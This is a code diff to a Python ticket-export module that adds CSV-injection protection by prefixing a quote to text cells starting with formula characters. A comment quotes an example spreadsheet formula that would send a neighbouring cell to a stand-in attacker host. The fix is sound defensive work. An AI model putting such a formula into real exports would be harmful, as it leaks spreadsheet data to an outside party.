@@ -201,8 +201,25 @@ def _row(
     }
 
 
+# What a spreadsheet reads as a formula when a cell starts with it (CWE-1236, OWASP "CSV
+# Injection"). A subject, a requester's name and a rating comment are what a stranger wrote:
+# `=HYPERLINK("https://evil.example/?"&C3, "open")` would send the cell beside it away from the
+# admin's spreadsheet with one click. Such a cell starts with a quote, which the spreadsheet
+# shows as text; the JSON export keeps every value as written.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cell(value: Any) -> Any:
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def write_csv(rows: Iterator[dict[str, Any]], out: TextIO) -> int:
-    """One header row, one row per ticket: tags joined by ";", custom fields as a JSON object."""
+    """One header row, one row per ticket: tags joined by ";", custom fields as a JSON object;
+    a text cell a spreadsheet would run as a formula starts with a quote (`_FORMULA_START`)."""
     writer = csv.DictWriter(out, fieldnames=EXPORT_COLUMNS, lineterminator="\n", extrasaction="ignore")
     writer.writeheader()
     n = 0
@@ -212,7 +229,7 @@ def write_csv(rows: Iterator[dict[str, Any]], out: TextIO) -> int:
         flat["custom_fields"] = (
             json.dumps(row["custom_fields"], sort_keys=True) if row["custom_fields"] else ""
         )
-        writer.writerow({k: "" if v is None else v for k, v in flat.items()})
+        writer.writerow({k: _cell(v) for k, v in flat.items()})
         n += 1
     return n
 
